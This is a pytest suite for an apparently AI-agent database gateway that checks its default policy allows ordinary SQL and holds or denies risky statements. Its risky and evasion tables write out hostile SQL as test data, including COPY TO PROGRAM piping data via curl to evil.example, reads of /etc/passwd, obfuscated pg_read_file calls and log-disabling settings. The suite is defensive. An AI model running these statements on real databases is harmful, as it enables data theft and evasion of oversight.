"""The shipped default pack, decided on SQL through the real classifier.

One row per statement: SQL -> the action the default pack must take for an
ordinary agent identity. Covers every category, the evasions the classifier has
to see through, and the ordinary driver/ORM/pgbench/BI work that must stay
``allow`` — a gateway that holds ``SELECT 1`` is a gateway nobody deploys.
"""

from __future__ import annotations

import pytest

from dbgate.policy.classify import classify
from dbgate.policy.model import Action, Identity
from dbgate.policy.rules import RuleSet, decide_bind, load_rules

ALLOW, HOLD, DENY = Action.ALLOW, Action.HOLD, Action.DENY
AGENT = Identity("agent", application_name="pytest")


@pytest.fixture(scope="module")
def pack() -> RuleSet:
    return load_rules(None)


ASYNCPG_TYPE_INTROSPECTION = """
WITH RECURSIVE typeinfo_tree(oid, ns, name, kind, basetype, elemtype, elemdelim, range_subtype,
                             attrtypoids, attrnames, depth) AS (
  SELECT ti.oid, ti.ns, ti.name, ti.kind, ti.basetype, ti.elemtype, ti.elemdelim,
         ti.range_subtype, ti.attrtypoids, ti.attrnames, 0
  FROM (SELECT t.oid AS oid, ns.nspname AS ns, t.typname AS name, t.typtype AS kind,
          (CASE WHEN t.typtype = 'd' THEN
            (WITH RECURSIVE typebases(oid, depth) AS (
               SELECT t2.typbasetype AS oid, 0 AS depth FROM pg_type t2 WHERE t2.oid = t.oid
               UNION ALL
               SELECT t2.typbasetype AS oid, tb.depth + 1 AS depth FROM pg_type t2, typebases tb
               WHERE tb.oid = t2.oid AND t2.typbasetype != 0)
             SELECT oid FROM typebases ORDER BY depth DESC LIMIT 1)
           ELSE NULL END) AS basetype,
          t.typelem AS elemtype, elem_t.typdelim AS elemdelim, range_t.rngsubtype AS range_subtype,
          (CASE WHEN t.typtype = 'c' THEN
            (SELECT array_agg(ia.atttypid ORDER BY ia.attnum) FROM pg_attribute ia
             INNER JOIN pg_class c ON (ia.attrelid = c.oid)
             WHERE ia.attnum > 0 AND NOT ia.attisdropped AND c.reltype = t.oid)
           ELSE NULL END) AS attrtypoids,
          NULL::text[] AS attrnames
        FROM pg_catalog.pg_type AS t
        INNER JOIN pg_catalog.pg_namespace ns ON (ns.oid = t.typnamespace)
        LEFT JOIN pg_type elem_t ON (t.typlen = -1 AND t.typelem != 0 AND t.typelem = elem_t.oid)
        LEFT JOIN pg_range range_t ON (t.oid = range_t.rngtypid)) AS ti
  WHERE ti.oid = any($1::oid[])
)
SELECT DISTINCT *, basetype::regtype::text AS basetype_name,
       elemtype::regtype::text AS elemtype_name FROM typeinfo_tree ORDER BY depth DESC
"""

ORDINARY = [
    # --- driver/ORM handshakes and introspection --------------------------------------
    ("SELECT 1", ALLOW),
    ("select version()", ALLOW),
    ("SHOW server_version", ALLOW),
    ("SHOW TRANSACTION ISOLATION LEVEL", ALLOW),
    ("SET application_name = 'agent'", ALLOW),
    ("SET TIME ZONE 'UTC'", ALLOW),
    ("SET statement_timeout = '5s'", ALLOW),
    ("SELECT current_schema()", ALLOW),
    ("SELECT pg_catalog.current_setting('server_version_num')", ALLOW),
    (
        "SELECT t.oid, typarray FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid "
        "WHERE typname = 'hstore'",
        ALLOW,
    ),
    (
        "SELECT c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n "
        "ON n.oid = c.relnamespace WHERE n.nspname = 'public' AND c.relkind = 'r'",
        ALLOW,
    ),
    (
        "SELECT table_name, column_name, data_type FROM information_schema.columns "
        "WHERE table_schema = 'public' AND table_name = 'orders'",
        ALLOW,
    ),
    (
        "SELECT pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a "
        "WHERE a.attrelid = 16384 AND a.attnum > 0 AND NOT a.attisdropped",
        ALLOW,
    ),
    (ASYNCPG_TYPE_INTROSPECTION, ALLOW),
    (
        "SELECT typname AS name, oid, typarray AS array_oid, oid::regtype::text AS regtype, "
        "typdelim AS delimiter FROM pg_type t WHERE t.oid = to_regtype($1) ORDER BY t.oid",
        ALLOW,
    ),  # psycopg TypeInfo.fetch
    (
        "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace "
        "ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace "
        "WHERE pg_catalog.pg_class.relname = $1 "
        "AND pg_catalog.pg_class.relkind = ANY (ARRAY[$2, $3, $4, $5, $6]) "
        "AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) "
        "AND pg_catalog.pg_namespace.nspname != $7",
        ALLOW,
    ),  # SQLAlchemy has_table
    ("show standard_conforming_strings", ALLOW),  # SQLAlchemy connect
    (
        "SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, c.relname AS TABLE_NAME, "
        "d.description AS REMARKS FROM pg_catalog.pg_namespace n, pg_catalog.pg_class c "
        "LEFT JOIN pg_catalog.pg_description d ON (c.oid = d.objoid AND d.objsubid = 0 "
        "AND d.classoid = 'pg_class'::regclass) WHERE c.relnamespace = n.oid "
        "AND c.relname LIKE 'orders' ORDER BY TABLE_SCHEM, TABLE_NAME",
        ALLOW,
    ),  # pgjdbc DatabaseMetaData.getTables
    (
        'SELECT n.nspname as "Schema", c.relname as "Name", '
        'pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c '
        "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
        "WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' "
        "AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2",
        ALLOW,
    ),  # psql \dt
    (
        "SELECT table_schema, table_name FROM information_schema.tables "
        "WHERE table_schema NOT IN ('pg_catalog', 'information_schema')",
        ALLOW,
    ),
    # --- transactions and session control ----------------------------------------------
    ("BEGIN", ALLOW),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", ALLOW),
    ("COMMIT", ALLOW),
    ("ROLLBACK", ALLOW),
    ("SAVEPOINT sp1", ALLOW),
    ("RELEASE SAVEPOINT sp1", ALLOW),
    ("ROLLBACK TO SAVEPOINT sp1", ALLOW),
    ("LISTEN orders_changed", ALLOW),
    ("DISCARD ALL", ALLOW),
    # --- what pg_dump --schema-only sends (test_pg_dump.py captures the real thing) -----
    ("SET row_security = off", ALLOW),
    ("SET row_security = on", ALLOW),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY", ALLOW),
    ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY", ALLOW),
    ("LOCK TABLE public.customers, public.orders IN ACCESS SHARE MODE", ALLOW),
    (
        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings "
        "WHERE name = 'restrict_nonsystem_relation_kind'",
        ALLOW,
    ),
    (
        "SELECT count(*) FROM pg_subscription "
        "WHERE subdbid = (SELECT oid FROM pg_database WHERE datname = current_database())",
        ALLOW,
    ),
    # --- COPY of a bounded query to the client is that query (psql \copy, asyncpg) ------
    ("COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT WITH CSV", ALLOW),
    ("COPY (SELECT id FROM orders WHERE id <= 100) TO STDOUT", ALLOW),
    # --- bounded reads, BI aggregates ---------------------------------------------------
    ("SELECT id, total, status FROM orders WHERE id = 42", ALLOW),
    ("SELECT id, total FROM orders WHERE customer_id = $1", ALLOW),
    ("SELECT * FROM orders ORDER BY created_at DESC LIMIT 10", ALLOW),
    ("SELECT status, count(*), sum(total) FROM orders GROUP BY status", ALLOW),
    (
        "SELECT date_trunc('month', created_at) AS m, avg(total) FROM orders "
        "WHERE created_at >= now() - interval '1 year' GROUP BY 1 ORDER BY 1",
        ALLOW,
    ),
    ("SELECT count(*) FROM customers", ALLOW),
    ("WITH recent AS (SELECT * FROM orders WHERE id > 100) SELECT count(*) FROM recent", ALLOW),
    ("EXPLAIN SELECT * FROM orders", ALLOW),  # EXPLAIN without ANALYZE only plans
    ("VALUES (1, 'a'), (2, 'b')", ALLOW),
    (
        "SELECT c.id, count(o.id) AS n, sum(o.total) FROM customers c "
        "JOIN orders o ON o.customer_id = c.id GROUP BY c.id ORDER BY n DESC LIMIT 20",
        ALLOW,
    ),
    (
        "SELECT status, total, rank() OVER (PARTITION BY status ORDER BY total DESC) "
        "FROM orders WHERE created_at > now() - interval '7 days' LIMIT 100",
        ALLOW,
    ),
    # --- bounded writes -----------------------------------------------------------------
    ("INSERT INTO orders (customer_id, total, status) VALUES (1, 9.99, 'new')", ALLOW),
    ("INSERT INTO orders (customer_id, total) VALUES ($1, $2) RETURNING id", ALLOW),
    ("UPDATE orders SET status = 'shipped' WHERE id = 42", ALLOW),
    ("DELETE FROM orders WHERE id = $1", ALLOW),
    (
        "INSERT INTO orders (id, customer_id, total) VALUES (1, 2, 3.5) "
        "ON CONFLICT (id) DO UPDATE SET total = EXCLUDED.total",
        ALLOW,
    ),
    ("INSERT INTO orders (customer_id, total) VALUES (1, 2), (3, 4), (5, 6)", ALLOW),
    # --- pgbench's TPC-B-like script ------------------------------------------------------
    ("UPDATE pgbench_accounts SET abalance = abalance + -1234 WHERE aid = 5678", ALLOW),
    ("SELECT abalance FROM pgbench_accounts WHERE aid = 5678", ALLOW),
    ("UPDATE pgbench_tellers SET tbalance = tbalance + -1234 WHERE tid = 7", ALLOW),
    ("UPDATE pgbench_branches SET bbalance = bbalance + -1234 WHERE bid = 1", ALLOW),
    (
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) "
        "VALUES (7, 1, 5678, -1234, CURRENT_TIMESTAMP)",
        ALLOW,
    ),
    ("END", ALLOW),
]

RISKY = [
    # --- destructive --------------------------------------------------------------------
    ("DELETE FROM orders", HOLD),
    ("UPDATE customers SET email = NULL", HOLD),
    ("TRUNCATE payments", HOLD),
    ("DROP TABLE orders", HOLD),
    ("DELETE FROM orders WHERE true", HOLD),
    # --- ddl ----------------------------------------------------------------------------
    ("CREATE TABLE t (id int)", HOLD),
    ("ALTER TABLE orders ADD COLUMN note text", HOLD),
    ("CREATE INDEX ON orders (created_at)", HOLD),
    # --- privilege ----------------------------------------------------------------------
    ("GRANT SELECT ON customers TO agent", HOLD),
    ("REVOKE ALL ON orders FROM PUBLIC", HOLD),
    ("CREATE ROLE sneaky LOGIN SUPERUSER", HOLD),
    ("SET ROLE postgres", HOLD),
    ("SET SESSION AUTHORIZATION postgres", HOLD),
    ("SELECT set_config('role', 'postgres', false)", HOLD),
    # --- export -------------------------------------------------------------------------
    ("COPY customers TO STDOUT", HOLD),
    ("COPY (SELECT * FROM customers) TO STDOUT WITH CSV", HOLD),
    ("SELECT dblink_exec('host=evil', 'select 1')", HOLD),
    # --- dump ---------------------------------------------------------------------------
    ("SELECT * FROM customers", HOLD),
    ("SELECT email, ssn FROM customers", HOLD),
    ("TABLE customers", HOLD),
    ("CREATE TABLE stolen AS SELECT * FROM customers", HOLD),
    ("SELECT * INTO stolen FROM payments", HOLD),
    ("SELECT table_to_xml('customers', true, false, '')", HOLD),
    ("SELECT query_to_xml('select * from payments', true, false, '')", HOLD),
    # --- escape -------------------------------------------------------------------------
    ("SET standard_conforming_strings = off", DENY),
    ("SET search_path = evil, pg_catalog", HOLD),
    ("SET default_transaction_read_only = off", HOLD),
    # --- opaque -------------------------------------------------------------------------
    ("DO $$ BEGIN PERFORM 1; END $$", HOLD),
    ("SELECT my_unknown_function(1)", HOLD),
    ("CALL archive_orders()", HOLD),
    # --- admin: denied --------------------------------------------------------------------
    ("COPY customers TO PROGRAM 'curl -d @- https://evil.example'", DENY),
    ("COPY orders FROM PROGRAM 'cat /etc/passwd'", DENY),
    ("COPY orders FROM '/etc/passwd'", DENY),
    ("SELECT pg_read_file('/etc/passwd')", DENY),
    ("SELECT pg_ls_dir('.')", DENY),
    ("ALTER SYSTEM SET log_statement = 'none'", DENY),
    ("LOAD 'auto_explain'", DENY),
    ("SELECT pg_terminate_backend(1234)", DENY),
    ("SELECT pg_reload_conf()", DENY),
    ("SET log_statement = 'none'", DENY),
    ("CREATE EXTENSION dblink", DENY),
    ("SELECT lo_export(123, '/tmp/x')", DENY),
    ("SELECT pg_switch_wal()", DENY),
    # --- maintenance: admin, but held rather than denied ---------------------------------
    ("VACUUM orders", HOLD),
    ("VACUUM FULL", HOLD),
    ("REINDEX TABLE orders", HOLD),
    ("CHECKPOINT", HOLD),
    # --- parse errors: denied --------------------------------------------------------------
    ("SELEC 1", DENY),
    ("SELECT * FROM", DENY),
]

EVASIONS = [
    # comments (nested too) hide nothing
    ("/* harmless */ SELECT pg_read_file('/etc/passwd')", DENY),
    ("SELECT 1 /* outer /* nested */ still comment */; DELETE FROM orders", HOLD),
    ("SELECT 1 -- ; DROP TABLE orders", ALLOW),  # the DROP really is a comment
    # multi-statement strings: the worst statement decides
    ("SELECT 1; SELECT pg_terminate_backend(1)", DENY),
    ("BEGIN; UPDATE customers SET ssn = NULL; COMMIT", HOLD),
    # CTE containing DML
    ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", HOLD),
    # EXPLAIN ANALYZE runs the statement
    ("EXPLAIN ANALYZE DELETE FROM orders", HOLD),
    ("EXPLAIN (ANALYZE, BUFFERS) SELECT pg_read_file('/etc/passwd')", DENY),
    # PREPARE / EXECUTE
    ("PREPARE p AS DELETE FROM orders", HOLD),
    # case-varied and schema-qualified function names
    ("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", DENY),
    ("SELECT \"pg_read_file\"('/etc/passwd')", DENY),
    # unicode-escaped identifier spelling pg_read_file
    ("SELECT U&\"pg_read_fil\\0065\"('/etc/passwd')", DENY),
    # function in FROM, and sub-select inside function arguments
    ("SELECT * FROM pg_ls_dir('/') AS f", DENY),
    ("SELECT length((SELECT string_agg(ssn, ',') FROM customers))", HOLD),
    # quoted table names
    ('SELECT * FROM "customers"', HOLD),
    # MERGE: each action judged as the statement it is, with ON as its predicate
    (
        "MERGE INTO orders o USING (VALUES (1)) v(id) ON o.id = v.id WHEN MATCHED THEN DELETE",
        ALLOW,
    ),
    ("MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE", HOLD),
    ("MERGE INTO orders o USING (VALUES (1)) v(id) ON true WHEN MATCHED THEN DELETE", HOLD),
    (
        "MERGE INTO orders o USING (VALUES (1)) v(id) ON o.id = v.id "
        "WHEN NOT MATCHED BY SOURCE THEN DELETE",
        HOLD,
    ),
    # a harmless read and an export in one statement: read's allow cannot carry it
    ("COPY (SELECT id FROM orders WHERE id = 1) TO PROGRAM 'curl -d @- https://x'", DENY),
]


@pytest.mark.parametrize(("sql", "action"), ORDINARY + RISKY + EVASIONS)
def test_default_pack(pack: RuleSet, sql: str, action: Action) -> None:
    classification = classify(sql)
    decision = pack.decide(AGENT, classification)
    detail = f"{decision.rule}: {decision.message} / {sorted(c.value for c in classification.categories)}"
    assert decision.action is action, detail


def test_table_is_big_enough() -> None:
    assert len(ORDINARY + RISKY + EVASIONS) >= 60


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("DELETE FROM orders", "hold-destructive"),
        ("GRANT SELECT ON customers TO agent", "hold-privilege"),
        ("COPY customers TO STDOUT", "hold-export"),
        ("CREATE TABLE t (id int)", "hold-ddl"),
        ("SET standard_conforming_strings = off", "unreadable-settings"),
        ("DO $$ BEGIN PERFORM 1; END $$", "hold-opaque"),
        ("ALTER SYSTEM SET work_mem = '1GB'", "deny-server-admin"),
        ("VACUUM orders", "hold-maintenance"),
        ("SELECT id FROM orders WHERE id = 1", "allow-reads"),
        ("UPDATE orders SET total = 1 WHERE id = 1", "allow-bounded-writes"),
        ("BEGIN", "allow-control"),
        ("SELEC 1", "parse-error"),
    ],
)
def test_deciding_rule(pack: RuleSet, sql: str, rule: str) -> None:
    assert pack.decide(AGENT, classify(sql)).rule == rule


def test_hold_terms_of_the_default_pack(pack: RuleSet) -> None:
    d = pack.decide(AGENT, classify("TRUNCATE orders"))
    assert (d.action, d.approver_groups, d.approvals_needed, d.expires_after_seconds) == (
        HOLD,
        ("dba",),
        1,
        3600,
    )


def test_parse_error_message_is_the_parsers(pack: RuleSet) -> None:
    d = pack.decide(AGENT, classify("SELEC 1"))
    assert 'syntax error at or near "SELEC"' in d.message


@pytest.mark.parametrize(
    ("params", "action"),
    [
        (["work_mem", "64MB"], ALLOW),
        (["application_name", "x"], ALLOW),
        (["role", "postgres"], HOLD),
        (["session_authorization", "postgres"], HOLD),
        (["standard_conforming_strings", "off"], DENY),
        (["log_statement", "none"], DENY),
    ],
)
def test_set_config_decided_at_bind(pack: RuleSet, params: list[str], action: Action) -> None:
    sql = "SELECT set_config($1, $2, false)"
    parsed = classify(sql)
    assert parsed.needs_bind
    # at Parse the value is unknown, so the statement cannot be allowed yet
    assert pack.decide(AGENT, parsed).action is not ALLOW
    d = decide_bind(pack, AGENT, parsed, sql, params)
    assert d.action is action, f"{d.rule}: {d.message}"


def test_bind_without_needs_bind_keeps_parse_decision(pack: RuleSet) -> None:
    sql = "SELECT id FROM orders WHERE id = $1"
    parsed = classify(sql)
    assert not parsed.needs_bind
    assert decide_bind(pack, AGENT, parsed, sql, ["42"]) == pack.decide(AGENT, parsed)


def _docs_recipe() -> str:
    """The ``rules/10-team.yaml`` example of docs/rules.md, so the docs cannot rot."""
    from pathlib import Path

    text = (Path(__file__).resolve().parents[3] / "docs" / "rules.md").read_text()
    start = text.index("```yaml\n# rules/10-team.yaml")
    body = text[start + len("```yaml\n") :]
    return body[: body.index("```")]


@pytest.mark.parametrize(
    ("identity", "sql", "action", "rule"),
    [
        (
            Identity("reporting-bot"),
            "SELECT * FROM analytics.daily",
            ALLOW,
            "reporting-may-dump-analytics",
        ),
        (Identity("agent"), "SELECT * FROM analytics.daily", HOLD, "hold-dump"),
        (
            Identity("reporting-bot"),
            "SELECT * FROM analytics.daily JOIN crm.leads USING (id)",
            HOLD,
            "hold-dump",
        ),
        (Identity("agent"), "SELECT secret FROM vault.tokens WHERE id = 1", DENY, "deny-vault"),
        (
            Identity("agent"),
            "SELECT app.score(id), lower(status) FROM orders WHERE id = 1",
            ALLOW,
            "trust-app-functions",
        ),
        (
            Identity("agent"),
            "SELECT app.score(id), other.thing(id) FROM orders WHERE id = 1",
            HOLD,
            "hold-opaque",
        ),
        (Identity("agent"), "COPY customers TO STDOUT", HOLD, "customer-exports"),
        (Identity("agent"), "COPY orders TO STDOUT", HOLD, "hold-export"),
        (
            Identity("queue-worker"),
            "SELECT pg_try_advisory_lock(7)",
            ALLOW,
            "worker-advisory-locks",
        ),
        (Identity("agent"), "SELECT pg_try_advisory_lock(7)", HOLD, "hold-lock"),
        (
            Identity("queue-worker"),
            "SELECT pg_advisory_lock(7), pg_advisory_lock_shared(8)",
            HOLD,
            "hold-lock",
        ),
        (
            Identity("queue-worker"),
            "SELECT pg_advisory_lock(7), status FROM orders WHERE status = 'x' FOR UPDATE",
            ALLOW,
            "worker-advisory-locks",
        ),
        (Identity("agent"), "LOCK TABLE orders IN ACCESS SHARE MODE", HOLD, "hold-table-locks"),
        (Identity("agent"), "LOCK orders IN ROW SHARE MODE", HOLD, "hold-table-locks"),
        (Identity("agent"), "SELECT id FROM orders WHERE id = 1", ALLOW, "allow-reads"),
    ],
)
def test_docs_recipe_with_default_pack(
    tmp_path_factory: pytest.TempPathFactory,
    identity: Identity,
    sql: str,
    action: Action,
    rule: str,
) -> None:
    import shutil

    from dbgate.policy.rules import default_rules_dir

    d = tmp_path_factory.mktemp("rules")
    (d / "10-team.yaml").write_text(_docs_recipe())
    shutil.copy(default_rules_dir() / "default.yaml", d / "default.yaml")
    rs = load_rules(d)
    decision = rs.decide(identity, classify(sql))
    assert (decision.action, decision.rule) == (action, rule), decision.message
    if rule == "customer-exports":
        assert decision.approver_groups == ("security",)
        assert (decision.approvals_needed, decision.expires_after_seconds) == (2, 900)
